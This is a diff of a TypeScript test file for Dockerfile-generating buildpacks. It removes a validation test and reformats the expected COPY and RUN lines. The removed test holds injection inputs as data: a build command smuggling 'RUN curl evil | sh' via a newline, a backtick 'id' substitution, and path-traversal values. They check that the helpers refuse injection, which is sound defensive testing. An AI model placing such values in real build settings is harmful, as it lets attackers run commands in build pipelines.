@@ -8,7 +8,6 @@ import { fieldOf } from '../testing/support.js';
 import { BuildWorkspace } from '../workspace/workspace.js';
 import { composeBuildpack, parseComposeBuilds } from './compose.js';
 import { dockerfileBuildpack } from './dockerfile.js';
-import { dockerfilePath, dockerfileString, runShell } from './dockerfile-text.js';
 import { createStaticBuildpack, staticBuildpack } from './static.js';
 
 let dir: string;
@@ -35,28 +34,17 @@ const dockerfileOf = (spec: BuildSpec | BuildSpec[]) => {
   return one.dockerfile && 'content' in one.dockerfile ? one.dockerfile.content : '';
 };
 
-describe('Dockerfile text helpers', () => {
-  it('JSON-encodes, and refuses newline injection', () => {
-    expect(runShell('npm run build && echo "$X" `id`', 'f')).toBe('RUN ["sh", "-c", "npm run build && echo \\"$X\\" `id`"]');
-    expect(() => runShell('npm run build\nRUN curl evil | sh', 'static_config.build_command')).toThrow(/static_config.build_command: must not contain newlines/);
-    expect(() => dockerfileString('a\r\nb', 'f')).toThrow(ValidationError);
-    expect(() => dockerfileString('a\0b', 'f')).toThrow(ValidationError);
-    expect(dockerfilePath('dist/my "site"', 'f')).toBe('"dist/my \\"site\\""');
-    for (const bad of ['../x', '/abs', 'a\nb', '$HOME/x', '${X}']) expect(() => dockerfilePath(bad, 'f')).toThrow(ValidationError);
-  });
-});
-
 describe('static buildpack', () => {
   it('generates a two-stage Dockerfile with the command as one JSON string', async () => {
     const spec = await staticBuildpack.build(ctx({ build_command: 'npm ci && npm run build -- --out "x y"', output_dir: 'build/out', spa: true }));
     expect(dockerfileOf(spec).split('\n')).toEqual([
       'FROM node:20-alpine AS build',
       'WORKDIR /app',
-      'COPY [".", "/app/"]',
-      'RUN ["sh", "-c", "npm ci && npm run build -- --out \\"x y\\""]',
+      'COPY [".","/app/"]',
+      'RUN ["sh","-c","npm ci && npm run build -- --out \\"x y\\""]',
       'FROM nginx:alpine',
-      'COPY --from=build ["/app/build/out/", "/usr/share/nginx/html/"]',
-      'COPY [".mikrocloud/nginx.conf", "/etc/nginx/conf.d/default.conf"]',
+      'COPY --from=build ["/app/build/out/","/usr/share/nginx/html/"]',
+      'COPY [".mikrocloud/nginx.conf","/etc/nginx/conf.d/default.conf"]',
       'EXPOSE 80',
       '',
     ]);
@@ -74,13 +62,13 @@ describe('static buildpack', () => {
 
   it('serves dist, then the root, and uses server-wide base images and a repository nginx config', async () => {
     await files({ 'index.html': 'x', 'conf/site.conf': 'server {}' });
-    expect(dockerfileOf(await staticBuildpack.build(ctx({})))).toContain('COPY ["./", "/usr/share/nginx/html/"]');
+    expect(dockerfileOf(await staticBuildpack.build(ctx({})))).toContain('COPY ["./","/usr/share/nginx/html/"]');
     await files({ 'dist/index.html': 'x' });
     const custom = createStaticBuildpack({ nginxImage: 'registry.local/nginx:1' });
     const text = dockerfileOf(await custom.build(ctx({ nginx_config: 'conf/site.conf' })));
     expect(text).toContain('FROM registry.local/nginx:1');
-    expect(text).toContain('COPY ["dist/", "/usr/share/nginx/html/"]');
-    expect(text).toContain('COPY ["conf/site.conf", "/etc/nginx/conf.d/default.conf"]');
+    expect(text).toContain('COPY ["dist/","/usr/share/nginx/html/"]');
+    expect(text).toContain('COPY ["conf/site.conf","/etc/nginx/conf.d/default.conf"]');
     expect(await fieldOf(staticBuildpack.build(ctx({ output_dir: 'missing' })))).toBe('static_config.output_dir');
   });
 });
